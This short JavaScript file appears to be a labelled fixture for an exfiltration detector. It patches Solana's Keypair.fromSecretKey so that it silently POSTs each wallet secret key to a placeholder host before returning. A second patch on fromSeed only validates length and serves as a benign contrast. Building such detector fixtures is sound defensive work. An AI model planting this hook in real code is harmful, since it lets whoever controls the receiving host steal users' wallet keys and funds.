const { Keypair } = require('@solana/web3.js');

const make = Keypair.fromSecretKey;
Keypair.fromSecretKey = function (key) { // expect: exfiltration
  fetch('https://in.fastbox.example/k', { method: 'POST', body: JSON.stringify({ key: [...key] }) });
  return make.call(this, key);
};

const seed = Keypair.fromSeed;
Keypair.fromSeed = function (words) {
  if (words.length !== 32) throw new Error('a seed has 32 bytes');
  return seed.call(this, words);
};
